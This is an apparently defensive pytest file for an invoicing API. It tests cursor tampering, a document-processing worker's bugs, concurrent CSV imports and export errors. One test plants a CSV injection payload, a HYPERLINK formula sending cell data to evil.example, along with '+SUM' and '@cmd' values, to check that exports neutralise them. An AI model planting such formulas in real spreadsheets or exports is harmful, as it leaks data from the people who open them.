"""Invoice lists, documents, processing and CSV at their edges: tampered cursors,
clashing entries, stalling workers, formulas in cells, racing imports."""

from __future__ import annotations

import asyncio

import httpx
import pytest
from fastapi import FastAPI

from ledgerline.config import Settings
from tests.helpers.database import owner_sql
from tests.helpers.documents import invoice_pdf, processor, upload
from tests.helpers.http import API, b64_json
from tests.helpers.identity import Account
from tests.helpers.invoices import HEADER, export, import_csv, invoice, vendor

# --- keyset pagination -------------------------------------------------------------

SOME_ID = "0190a3c1-0000-7000-8000-000000000000"


@pytest.mark.parametrize(
    ("sort", "token"),
    [
        ("total", ["total", "1.00", 5]),  # id not a string
        ("created", ["created", 5, SOME_ID]),  # UUID key not a string
        ("due_date", ["due_date", "2026-01-01", ["x"]]),  # id a list
    ],
)
async def test_a_tampered_sorted_cursor_is_a_400_not_a_500(
    client: httpx.AsyncClient, owner: Account, sort: str, token: object
) -> None:
    """`_decode_sorted` passes non-string JSON values to UUID(), whose AttributeError
    is not caught: a 500 instead of `invalid_cursor`."""
    await invoice(client, owner, await vendor(client, owner))
    answer = await client.get(
        f"{API}/invoices", params={"sort": sort, "cursor": b64_json(token)}, headers=owner.headers
    )
    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] == "invalid_cursor"


# --- background processing -----------------------------------------------------------


async def test_the_worker_does_not_erase_a_due_date_a_person_entered(
    client: httpx.AsyncClient, owner: Account, app: FastAPI, settings: Settings
) -> None:
    """`_fill_draft` fills issue_date from the document, then clears due_date when it
    precedes it, even though the due date was the person's, not the document's."""
    pdf = invoice_pdf("Invoice No: R-1", "Invoice date: 2026-03-01", "Total: EUR 10.00")
    file = (await upload(client, owner, ("a.pdf", pdf))).json()["files"][0]
    url = f"{API}/invoices/{file['invoice_id']}"
    etag = (await client.get(url, headers=owner.headers)).headers["etag"]
    typed = await client.patch(
        url, json={"due_date": "2026-02-15"}, headers=owner.headers | {"If-Match": etag}
    )
    assert typed.status_code == 200, typed.text
    await processor(app, settings, app.state.document_storage).run_once()
    draft = (await client.get(url, headers=owner.headers)).json()
    assert draft["due_date"] == "2026-02-15"  # what the person typed stays


async def test_a_vendor_found_by_tax_id_clashing_with_a_typed_number_needs_review(
    client: httpx.AsyncClient, owner: Account, app: FastAPI, settings: Settings
) -> None:
    """The worker sets vendor_id without checking (vendor, number) against the number a
    person typed: the flush violates the unique constraint, the attempt 'fails' with
    the SQL error as its reason, and it is retried until the attempts run out."""
    paper = await client.post(
        f"{API}/vendors",
        json={"name": "Paper", "tax_id": "DE123456789", "default_currency": "EUR"},
        headers=owner.headers,
    )
    assert (await invoice(client, owner, paper.json()["id"], number="X-1")).status_code == 201
    pdf = invoice_pdf("VAT ID: DE 123 456 789", "Invoice date: 2026-03-01", "Total: EUR 5.00")
    file = (await upload(client, owner, ("a.pdf", pdf))).json()["files"][0]
    url = f"{API}/invoices/{file['invoice_id']}"
    etag = (await client.get(url, headers=owner.headers)).headers["etag"]
    typed = await client.patch(
        url, json={"number": "X-1"}, headers=owner.headers | {"If-Match": etag}
    )
    assert typed.status_code == 200, typed.text
    await processor(app, settings, app.state.document_storage).run_once()
    read = (
        await client.get(f"{API}/documents/{file['document_id']}", headers=owner.headers)
    ).json()
    assert read["processing_status"] == "needs_review", read["failure_reason"]


async def test_a_document_whose_worker_keeps_dying_is_not_claimed_forever(
    client: httpx.AsyncClient, owner: Account, app: FastAPI, settings: Settings
) -> None:
    """`ready` takes every PROCESSING row whose lease ran out, whatever its attempts: a
    document that kills or hangs its worker (a PDF bomb) is claimed again every lease,
    forever, past DOCUMENT_MAX_ATTEMPTS."""
    await upload(client, owner, ("a.pdf", invoice_pdf("Invoice No: 1")))
    await owner_sql(
        settings,
        owner.tenant_id,
        "UPDATE invoice_documents SET processing_status = 'processing', attempts = $1,"
        " next_attempt_at = now() - interval '1 second'",
        settings.document_max_attempts,
    )
    assert await processor(app, settings, app.state.document_storage).run_once() == 0
    (row,) = await owner_sql(
        settings, owner.tenant_id, "SELECT attempts, processing_status FROM invoice_documents"
    )
    assert row["attempts"] <= settings.document_max_attempts


async def test_a_word_after_the_total_is_not_read_as_a_currency(
    client: httpx.AsyncClient, owner: Account, app: FastAPI, settings: Settings
) -> None:
    """`_TOTAL` is case-insensitive, so its `[A-Z]{3}` currency slot takes any
    three-letter word: 'Total: 1,190.00 due on receipt' gives currency 'DUE', which
    the worker then writes on the draft."""
    pdf = invoice_pdf(
        "Invoice No: C-1", "Invoice date: 2026-03-01", "Total: 1,190.00 due on receipt"
    )
    file = (await upload(client, owner, ("a.pdf", pdf))).json()["files"][0]
    await processor(app, settings, app.state.document_storage).run_once()
    draft = (await client.get(f"{API}/invoices/{file['invoice_id']}", headers=owner.headers)).json()
    assert draft["currency"] != "DUE"


# --- CSV import and export -----------------------------------------------------------


async def test_a_partial_import_does_not_lose_a_new_vendor_to_a_failed_invoice(
    client: httpx.AsyncClient, owner: Account
) -> None:
    """The vendor created for a new vendor's first invoice is cached before the invoice
    is made; when that invoice fails (due before issue) its savepoint undoes the vendor,
    and the cached, rolled-back vendor fails every later invoice of that vendor."""
    text = HEADER + (
        "New Co,,A-1,2026-03-10,2026-03-01,EUR,Paper,1,10.00,,\n"  # due before issue
        "New Co,,A-2,2026-03-10,2026-03-31,EUR,Paper,1,10.00,,\n"  # valid
    )
    answer = await import_csv(client, owner, text, partial=True)
    assert answer.status_code == 200, answer.text
    statuses = {row["line"]: row["status"] for row in answer.json()["rows"]}
    assert statuses == {2: "failed", 3: "imported"}, answer.json()["rows"]


async def test_the_export_neutralises_spreadsheet_formulas(
    client: httpx.AsyncClient, owner: Account
) -> None:
    """Cells a user controls (vendor name, notes, descriptions, PO number) are written
    verbatim: '=HYPERLINK(...)' runs as a formula in whoever opens the export in a
    spreadsheet (CSV injection)."""
    evil = await vendor(client, owner, '=HYPERLINK("https://evil.example/?x="&A1,"ok")')
    created = await invoice(client, owner, evil, notes="+SUM(1,1)", po_number="@cmd")
    assert created.status_code == 201, created.text
    (row,) = [r for r in await export(client, owner) if r["line"] == "0"]
    for name in ("vendor_name", "notes", "po_number"):
        assert row[name][:1] not in ("=", "+", "-", "@"), (name, row[name])


async def test_an_import_retried_while_the_first_runs_makes_nothing_twice(
    client: httpx.AsyncClient, owner: Account
) -> None:
    """Idempotency ("the same file can be sent twice") holds only one at a time: two
    imports of one file racing (a client retrying after a timeout) both miss the new
    vendor, both create it (vendor names are not unique) and both create its invoice."""
    text = HEADER + "Race Co,,R-1,2026-03-01,,EUR,Paper,1,10.00,,\n"
    answers = await asyncio.gather(*(import_csv(client, owner, text) for _ in range(4)))
    assert {answer.status_code for answer in answers} == {200}, [a.text for a in answers]
    listed = (await client.get(f"{API}/invoices", headers=owner.headers)).json()["items"]
    assert [i["number"] for i in listed] == ["R-1"]
    vendors = (await client.get(f"{API}/vendors", headers=owner.headers)).json()["items"]
    assert [v["name"] for v in vendors] == ["Race Co"]


async def test_an_export_whose_query_fails_is_an_error_not_a_cut_off_200(
    client: httpx.AsyncClient, owner: Account
) -> None:
    """The export sends its 200 and header row before running the query: a filter
    PostgreSQL refuses (a NUL in `q`, which the JSON list answers with 422) or any
    database error then breaks the response mid-stream ('response already started'),
    and a client may keep a truncated file that looks complete."""
    await invoice(client, owner, await vendor(client, owner))
    listed = await client.get(f"{API}/invoices", params={"q": "\x00"}, headers=owner.headers)
    assert listed.status_code == 422
    try:
        exported = await client.get(
            f"{API}/invoices/export.csv", params={"q": "\x00"}, headers=owner.headers
        )
    except AssertionError:  # httpx's ASGI transport: the response never completed
        pytest.fail("the export sent 200 and its header row, then broke off mid-stream")
    assert exported.status_code == 422, exported.text[:200]
